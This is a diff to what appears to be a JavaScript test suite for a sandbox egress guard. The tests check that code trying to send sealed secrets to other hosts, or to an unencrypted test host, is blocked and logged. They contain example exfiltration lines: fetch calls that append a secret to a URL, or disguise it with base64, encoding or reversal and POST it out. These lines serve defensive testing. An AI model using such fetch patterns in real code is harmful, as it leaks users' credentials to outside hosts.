@@ -253,6 +253,18 @@ describe("is refused before anything leaves, with a security event,", () => {
       expectNothingOf(odd, result.output);
     },
   );
+  test.each([
+    ["to another host", "params.other + '/'", []],
+    ["without encryption", "'http://public.test/'", ["public.test"]],
+  ])("%s, also as a value that the step has from elsewhere", async (_, to, more) => {
+    const ascii = "Tv9qZr7wL2x4yHpBn5Ks8Dm3";
+    const secret = world.sealed({ hosts: [`approved.test:${world.approved.port}`, ...more] }, ascii);
+    const call = `fetch(${to} + "?k=" + params.known + (<<secrets.key>> && ""))`;
+    const result = await world.run(attempt(call), secret, { params: { ...world.params, known: ascii } });
+    expect(result.output).toEqual(["ERR_EGRESS_GUARD", expect.any(String)]);
+    expect(securityOf(result)).toMatchObject([{ action: "blocked", secrets: ["key"] }]);
+    expect(world.other.take()).toEqual([]);
+  });
   test("however the placeholder itself is disguised: what arrives is not the sealedValue", async () => {
     const code = `const k = <<secrets.key>>; const codes = [btoa(k), encodeURIComponent(k).replaceAll("s", "%73"), [...k].reverse().join("")];
       for (const text of codes) await fetch(params.other + "/?q=" + text, { method: "POST", body: text });`;
